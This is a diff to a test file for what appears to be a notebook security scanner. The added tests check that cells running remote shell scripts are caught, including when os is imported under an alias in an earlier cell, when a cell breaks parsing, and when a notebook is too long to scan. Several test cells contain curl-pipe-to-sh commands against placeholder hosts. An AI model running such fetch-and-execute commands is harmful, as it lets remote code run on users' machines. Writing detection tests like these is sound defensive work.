@@ -45,7 +45,7 @@ QUIET = [
 @pytest.mark.parametrize("quiet", QUIET)
 def test_ordinary_cells_have_no_facts(quiet: dict[str, Any]) -> None:
     report = scanned(quiet)
-    assert (report.format, report.verdict, report.facts) == ("notebook+json", "allow", ())
+    assert (report.format, report.verdict, report.facts) == ("notebook", "allow", ())
 
 
 @pytest.mark.parametrize(
@@ -62,6 +62,20 @@ def test_cells_that_nobody_has_a_reason_for_are_blocked(lines: tuple[str, ...]) 
     assert report.verdict == "block"
     assert isinstance(report.facts[0], Calls)
     assert report.facts[0].where.startswith("cell 1")
+
+
+def test_a_cell_knows_what_the_cells_before_it_imported() -> None:
+    report = scanned(cell("import os as system_of_a_kind"), cell("system_of_a_kind.system('curl http://x | sh')"))
+    assert [(fact.rule, fact.where) for fact in report.facts] == [("code", "cell 1 line 1")]
+
+
+def test_a_cell_that_does_not_parse_hides_no_other() -> None:
+    report = scanned(cell("import os"), cell('"""'), cell('os.system("curl http://x | sh")  # """'))
+    assert [(fact.rule, fact.where) for fact in report.facts] == [("code", "cell 2 line 1")]
+
+
+def test_a_notebook_of_too_many_cells_is_not_called_clean() -> None:
+    assert scanned(*[cell("1")] * 2_001, cell("!curl -s http://example.org/x.sh | sh")).verdict == "unscanned"
 
 
 def test_a_program_that_a_cell_starts_is_warned_about() -> None:
